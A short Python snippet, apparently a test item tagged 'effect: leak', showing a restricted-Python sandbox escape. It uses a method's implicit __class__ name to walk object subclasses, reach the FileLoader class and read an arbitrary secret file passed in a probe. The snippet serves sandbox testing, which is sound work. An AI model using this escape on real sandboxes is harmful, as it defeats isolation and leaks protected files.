# effect: leak
# note: the hidden name __class__ of a method
class Reader:
    def read(self, path):
        for cls in __class__.__base__.__subclasses__():
            if cls.__name__ == "FileLoader":
                return cls("x", path).get_data(path)


def attempt(probe):
    return Reader().read(probe["secret_file"])
